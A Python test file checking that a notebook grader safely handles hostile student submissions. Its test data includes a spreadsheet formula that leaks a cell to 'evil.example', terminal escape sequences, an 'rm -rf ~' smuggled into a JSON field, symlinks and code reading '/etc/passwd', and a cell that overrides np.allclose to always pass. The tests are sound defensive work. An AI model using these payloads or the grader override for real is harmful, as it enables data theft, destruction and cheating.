"""The grader's report and console are safe to open, whatever a submission holds.

No kernel is started here: these tests cover the CSV and the printed summary
(formulas, control characters), how a submission's file is found and read (links out
of the submissions folder, devices, size limit, memory, messages that never quote the
file) and Ctrl-C (the report so far is written, the rest marked ``not graded``).
"""

from __future__ import annotations

import csv
import json
import os
import signal
import threading
import tracemalloc
from pathlib import Path

import nbformat
import pytest

from instructor import grade
from instructor.grading import reading, unit
from instructor.grading.report import Row, neutral, printable, summary, write_csv

ROOT = Path(__file__).resolve().parents[2]
STUDENT = ROOT / "notebooks" / "student" / "01_actor_critic_cartpole.ipynb"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
CONTROL = "".join(chr(code) for code in [*range(32), *range(127, 160)])


def unsafe(text: str) -> bool:
    """Whether a CSV cell could run in a spreadsheet or drive a terminal."""
    start = text.lstrip()[:1]
    return start in ("=", "+", "-", "@") or any(
        char in text for char in CONTROL if char != "\n"
    )


# --- cells and lines ---------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "＝"])
def test_a_cell_that_starts_a_formula_is_quoted(start):
    cell = neutral(start + "1+1")
    assert cell.startswith("'") and cell.endswith("1+1")
    assert not any(char in cell for char in CONTROL)


def test_plain_cells_are_kept_as_they_are():
    for text in ["passed", "Exercise 2: discounted returns", "alice/ok.ipynb", ""]:
        assert neutral(text) == text


def test_escape_sequences_and_control_characters_are_removed():
    text = f"name{ESCAPES}\x00\x07\x08\x7f\x85\x9b31m\u202egnp.exe"
    cleaned = printable(text)
    assert not any(char in cleaned for char in CONTROL)
    assert "\u202e" not in cleaned
    assert cleaned == "namelink gnp.exe"  # \x85 is a line break; \x9b31m a CSI


def test_messages_keep_their_line_breaks_in_the_csv_only():
    message = "expected: [1. 2.]\r\n  got: [2. 1.]\nHint: look back"
    assert neutral(message, keep_newlines=True) == (
        "expected: [1. 2.]\n  got: [2. 1.]\nHint: look back"
    )
    assert "\n" not in printable(message)


def test_the_csv_and_the_summary_are_neutral(tmp_path):
    name = f"{FORMULA}{ESCAPES}.ipynb"
    rows = [
        Row(name, "01_x", "Exercise 1: a", "failed", f"@SUM(1)\n{ESCAPES}", "flag"),
        Row(name, "01_x", "Exercise 2: b", "passed", "", "flag"),
        Row(f"+{name}", "", "", "invalid", f"-{FORMULA}"),
    ]
    path = tmp_path / "report.csv"
    write_csv(path, rows)
    with open(path, newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert table[0] == ["submission", "notebook", "exercise", "status", "mistake",
                        "message", "flags"]
    assert len(table) == 4 and all(len(line) == 7 for line in table)
    for line in table[1:]:
        for cell in line:
            assert not unsafe(cell), cell
    assert table[1][0].startswith("'=HYPERLINK") and "click" in table[1][0]
    text = summary(rows)
    assert not any(char in text for char in CONTROL if char != "\n")
    assert "flag" in text


def test_progress_lines_are_printable():
    rows = [Row("x", "", "", "invalid", "m")]
    line = grade.progress_line(1, 2, f"{FORMULA}{ESCAPES}\n.ipynb", rows, 1.0)
    assert not any(char in line for char in CONTROL)


# --- reading a submission ----------------------------------------------------------


def read(root: Path, relative: str, max_bytes: int = 50 * 2**20):
    """The reading error of a submission, or "" when it reads."""
    try:
        reading.read_submission(root, Path(relative), max_bytes)
    except reading.InvalidNotebook as error:
        return str(error)
    return ""


def test_invalid_json_is_reported_without_its_content(tmp_path):
    secret = "top-secret-line"
    (tmp_path / "bad.ipynb").write_text('{"cells": [\n  {"source": "' + secret + '" ]')
    message = read(tmp_path, "bad.ipynb")
    assert message.startswith("not valid JSON (line 2, column ")
    assert secret not in message and "cells" not in message


@pytest.mark.parametrize("content, words", [
    (b"\xff\xfe\x00junk", "not UTF-8"),
    (b"[1, 2, 3]", "not an object"),
    (b'{"nbformat": "4; rm -rf ~"}', "nbformat version"),
    (b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": "x"}',
     "a required field is missing or wrong"),
    (b"[" * 100_000, "nested too deeply"),
])
def test_other_unreadable_files_say_why_without_quoting_them(tmp_path, content, words):
    (tmp_path / "x.ipynb").write_bytes(content)
    message = read(tmp_path, "x.ipynb")
    assert words in message, message
    assert "rm -rf" not in message


def test_the_courses_notebooks_read_within_the_budget():
    for path in sorted((ROOT / "notebooks").rglob("*.ipynb")):
        data = path.read_bytes()
        assert reading.within_budget(data), path
        assert read(path.parent, path.name) == ""


def test_a_link_to_a_system_file_is_not_read(tmp_path, monkeypatch):
    (tmp_path / "subs").mkdir()
    os.symlink("/etc/passwd", tmp_path / "subs" / "passwd.ipynb")
    parsed = []
    monkeypatch.setattr(reading, "parse_notebook", parsed.append)
    message = read(tmp_path / "subs", "passwd.ipynb")
    assert message == "a link to a file outside the submissions folder (not read)"
    assert parsed == []


def test_a_linked_folder_on_the_way_out_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    nbformat.write(nbformat.v4.new_notebook(), outside / "x.ipynb")
    subs = tmp_path / "subs"
    (subs / "alice").mkdir(parents=True)
    os.symlink(outside, subs / "alice" / "work")
    assert read(subs, "alice/work/x.ipynb").startswith("a link to a file outside")
    assert read(subs, "alice/work").startswith("a link to a folder outside")


def test_links_inside_the_submissions_folder_are_followed(tmp_path):
    subs = tmp_path / "subs"
    (subs / "real").mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(), subs / "real" / "x.ipynb")
    os.symlink(subs / "real", subs / "linked")
    os.symlink(subs / "real" / "x.ipynb", subs / "copy.ipynb")
    assert read(subs, "linked/x.ipynb") == ""
    assert read(subs, "copy.ipynb") == ""


def test_a_link_swapped_in_after_the_check_is_not_followed(tmp_path, monkeypatch):
    # The link is checked with realpath, then the target opened without following
    # links: if realpath saw an inside path but the file system now holds a link,
    # the open refuses it (O_NOFOLLOW), instead of reading where the link leads.
    subs = tmp_path / "subs"
    subs.mkdir()
    os.symlink("/etc/passwd", subs / "a.ipynb")
    os.symlink("/etc/passwd", subs / "b.ipynb")
    real = os.path.realpath
    monkeypatch.setattr(
        reading.os.path, "realpath",
        lambda path: str(subs / "b.ipynb") if str(path).endswith("a.ipynb")
        else real(path),
    )
    assert read(subs, "a.ipynb") == "a link that changed while it was read"


def test_a_fifo_does_not_block_the_grader(tmp_path):
    os.mkfifo(tmp_path / "pipe.ipynb")
    assert read(tmp_path, "pipe.ipynb") == "not a regular file"


def test_a_file_over_the_size_limit_is_not_parsed(tmp_path, monkeypatch):
    (tmp_path / "big.ipynb").write_bytes(b"x" * 2_000_001)
    parsed = []
    monkeypatch.setattr(reading, "parse_notebook", parsed.append)
    message = read(tmp_path, "big.ipynb", max_bytes=2_000_000)
    assert message.startswith("larger than the 1.90735 MB limit (1.9 MB)")
    assert parsed == []


def test_parsing_a_large_invalid_file_stays_within_twice_its_size(tmp_path):
    # A truncated notebook of 40 MB: its bytes, then its text, then the error.
    size = 40 * 2**20
    body = b'{"cells": [{"cell_type": "code", "source": "'
    (tmp_path / "cut.ipynb").write_bytes(body + b"x" * (size - len(body)))
    tracemalloc.start()
    try:
        message = read(tmp_path, "cut.ipynb")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert message.startswith("not valid JSON")
    assert peak < 2.2 * size, f"peak {peak / 2**20:.0f} MB for {size / 2**20} MB"


def test_json_of_tiny_values_is_refused_before_it_fills_memory(tmp_path):
    # 10 MB of "{}," would take about 20 times its size as Python dicts.
    (tmp_path / "objects.ipynb").write_bytes(b"[" + b"{}," * 3_500_000 + b"{}]")
    tracemalloc.start()
    try:
        message = read(tmp_path, "objects.ipynb")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "far too many JSON values" in message
    assert peak < 12 * 2**20


# --- finding submissions -----------------------------------------------------------


def test_links_to_folders_outside_are_listed_not_searched(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.ipynb").write_text("{}")
    subs = tmp_path / "subs"
    (subs / "bob").mkdir(parents=True)
    (subs / "bob" / "a.ipynb").write_text("{}")
    (subs / ".ipynb_checkpoints").mkdir()
    (subs / ".ipynb_checkpoints" / "a-checkpoint.ipynb").write_text("{}")
    os.symlink(outside, subs / "carol")
    os.symlink(subs / "bob", subs / "bob_again")
    os.symlink("/etc/passwd", subs / "passwd.ipynb")
    found = grade.find_submissions([str(subs)])
    assert [s.name for s in found] == ["bob/a.ipynb", "carol", "passwd.ipynb"]
    assert all(s.root == subs for s in found)


# --- Ctrl-C ------------------------------------------------------------------------


def test_ctrl_c_writes_the_report_so_far(tmp_path, monkeypatch, capsys):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("a", "b", "c", "d"):
        (subs / f"{name}.ipynb").write_bytes(STUDENT.read_bytes())

    def fake_grade(submission, course, limits, stop, max_bytes, secret=None):
        if submission.name == "a.ipynb":
            return [Row(submission.name, "01", "Exercise 1: x", "passed")]
        # b: Ctrl-C arrives while it runs; it then stops like a cancelled kernel.
        if submission.name == "b.ipynb":  # as the terminal does: to the main thread
            # Sent again each second until it lands (under heavy load a first signal
            # was once seen to go unanswered within 20 s; a user presses again too).
            for _ in range(20):
                signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)
                if stop.wait(1):
                    break
        assert stop.wait(1), "the stop event was never set"
        return [Row(submission.name, "01", "Exercise 1: x", "error", "cancelled")]

    monkeypatch.setattr(unit, "safe_grade", fake_grade)
    monkeypatch.setattr(grade, "start_sandbox", lambda *a: None, raising=False)
    out = tmp_path / "report.csv"
    code = grade.main([str(subs), "--out", str(out), "--workers", "1"])
    assert code == 130
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["submission"], r["status"]) for r in rows] == [
        ("a.ipynb", "passed"), ("b.ipynb", "not graded"), ("c.ipynb", "not graded"),
        ("d.ipynb", "not graded"),
    ]
    assert "Ctrl-C" in rows[1]["message"]
    assert "3 submission(s) marked 'not graded'" in capsys.readouterr().err


def test_a_notebook_row_carries_the_submissions_flags(tmp_path, monkeypatch):
    notebook = nbformat.read(STUDENT, as_version=4)
    notebook.cells.append(nbformat.v4.new_code_cell("np.allclose = lambda *a: True"))
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(notebook, subs / "s.ipynb")
    (subs / "pandas.ipynb").write_text(json.dumps({
        "cells": [{"cell_type": "code", "metadata": {}, "outputs": [],
                   "execution_count": None, "source": "open('/etc/passwd')"}],
        "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    from instructor.grading import course as course_model
    from instructor.grading import runner

    monkeypatch.setattr(runner, "run_submission",
                        lambda *a, **k: runner.Outcome(end="crash", detail="no run"))
    course = course_model.load_course(ROOT / "notebooks")
    found = {s.name: s for s in grade.find_submissions([str(subs)])}
    rows = grade.grade_one(found["s.ipynb"], course, runner.Limits(),
                           threading.Event(), 2**26)
    assert len(rows) == 5 and {row.flags for row in rows} == {"monkeypatch"}
    assert {row.status for row in rows} == {"error"}
    foreign = grade.grade_one(found["pandas.ipynb"], course, runner.Limits(),
                              threading.Event(), 2**26)
    assert [(row.status, row.flags) for row in foreign] == [
        ("unrecognised", "outside-files")
    ]
